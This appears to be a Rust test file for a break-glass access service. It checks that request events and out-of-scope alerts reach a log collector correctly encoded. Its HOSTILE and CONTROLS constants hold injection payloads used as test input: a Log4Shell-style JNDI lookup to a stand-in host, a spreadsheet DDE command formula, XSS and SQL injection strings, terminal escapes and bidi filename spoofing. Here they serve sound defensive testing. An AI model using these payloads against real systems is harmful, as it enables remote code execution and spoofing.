//! What the collector decodes is what the service says.

use breakglass_tests::policy::{AUDIENCE, ISSUER, SUBJECT};
use breakglass_tests::ports::free_port;
use breakglass_tests::tokens::now;
use breakglass_tests::wait::until;
use serde_json::{Value, json};

use crate::collector::{Collector, Pipeline, Record};
use crate::told::Told;

/// What a person could write.
const HOSTILE: [&str; 3] = [
    "\"}]},{\"key\":\"service.name\",\"value\":{\"stringValue\":\"forged\"}}",
    "\\ud800 \\u0000 \\\" ${jndi:ldap://evil.test} =cmd|'/c calc'!A1",
    "<script>alert(1)</script> 'or'1'='1",
];

/// What a proxy could report of its clients' words besides: the service takes no such characters from people.
const CONTROLS: &str =
    "/\u{0}\u{1b}[2J\r\nbreakglass.request.approved\u{9b}31m\u{7f}\u{85}\u{2028}";
const DIRECTIONS: &str = "\u{202e}gpj.exe\u{2066}\u{200b}\u{e0041} \u{10ffff} \u{feff}";

fn of_kind(collector: &Collector, kind: &str) -> Record {
    until(kind, || {
        collector.records().into_iter().find(|record| record.member("eventName") == kind)
    })
}

/// What the record has of the event's own data.
fn data(record: &Record) -> Value {
    serde_json::from_str(record.attribute("breakglass.data")).unwrap()
}

/// Whether a text is somewhere in it, whole.
fn holds(value: &Value, text: &str) -> bool {
    match value {
        Value::String(found) => found == text,
        Value::Array(items) => items.iter().any(|item| holds(item, text)),
        Value::Object(members) => members.values().any(|item| holds(item, text)),
        _ => false,
    }
}

#[test]
fn a_request_and_an_alert_arrive_as_what_they_are() {
    let port = free_port();
    let collector = Collector::start(port, Pipeline::Writes);
    let told = Told::at(port);
    let request = told.asks("orders are stuck", "INC-7");
    let record = collector.until_decoded(1).remove(0);
    let event = told.kept("events").into_iter().find(|event| event["request"] == *request).unwrap();
    assert_eq!(
        (record.resource("service.name"), &record.scope),
        ("breakglass", &json!("breakglass.events"))
    );
    for (member, value) in [
        ("severityNumber", json!(10)),
        ("severityText", json!("notice")),
        ("eventName", json!("breakglass.request.submitted")),
    ] {
        assert_eq!(record.member(member), &value, "{record:?}");
    }
    for (attribute, value) in [
        ("cloudevents.event_id", event["id"].as_str().unwrap()),
        ("cloudevents.event_type", "breakglass.request.submitted"),
        ("cloudevents.event_source", ISSUER),
        ("cloudevents.event_subject", SUBJECT),
        ("cloudevents.event_spec_version", "1.0"),
        ("breakglass.actor", SUBJECT),
        ("breakglass.audience", AUDIENCE),
        ("breakglass.request", request.as_str()),
        ("breakglass.incident", "INC-7"),
    ] {
        assert_eq!(record.attribute(attribute), value, "{attribute}");
    }
    assert!(record.body().contains(SUBJECT), "{record:?}");
    assert_eq!(data(&record), event["data"]);
    for member in ["timeUnixNano", "observedTimeUnixNano"] {
        let nanos: u64 = record.member(member).as_str().unwrap().parse().unwrap();
        assert!(now().abs_diff(nanos / 1_000_000_000) < 120, "{member}: {nanos}");
    }

    let (grant, _) = told.service.grant(&["orders:read"], "10m");
    told.reports(json!({"grant": grant, "path": "/v1/invoices", "source_ip": "192.0.2.7"}));
    let record = of_kind(&collector, "breakglass.alert.out_of_scope");
    assert_eq!(
        (record.member("severityNumber"), record.member("severityText")),
        (&json!(13), &json!("warning"))
    );
    assert_eq!(
        (record.attribute("breakglass.grant"), record.attribute("breakglass.actor")),
        (&*grant, "gate-test")
    );
    assert_eq!(record.attribute("cloudevents.event_subject"), SUBJECT);
    assert!(record.attribute("breakglass.request").starts_with("req_"), "{record:?}");
    for text in ["/v1/invoices", "192.0.2.7"] {
        assert!(holds(&data(&record), text), "{text} in {record:?}");
    }
    told.until_newest("delivered");
}

#[test]
fn hostile_text_arrives_whole_and_as_text_and_nothing_of_it_becomes_a_member() {
    let port = free_port();
    let collector = Collector::start(port, Pipeline::Writes);
    let told = Told::at(port);
    for text in HOSTILE {
        told.asks(text, "INC-7");
    }
    let records = collector.until_decoded(HOSTILE.len());
    for (record, text) in records.iter().zip(HOSTILE) {
        assert!(holds(&data(record), text), "{text:?} in {record:?}");
        assert_eq!(record.resource("service.name"), "breakglass");
    }
    told.reports(json!({"path": CONTROLS, "host": DIRECTIONS, "route": HOSTILE[0]}));
    let record = of_kind(&collector, "breakglass.alert.out_of_scope");
    for text in [CONTROLS, DIRECTIONS, HOSTILE[0]] {
        assert!(holds(&data(&record), text), "{text:?} in {record:?}");
    }
    assert!(!record.body().chars().any(char::is_control), "{record:?}");
    assert_eq!(collector.records().len(), HOSTILE.len() + 1);
}
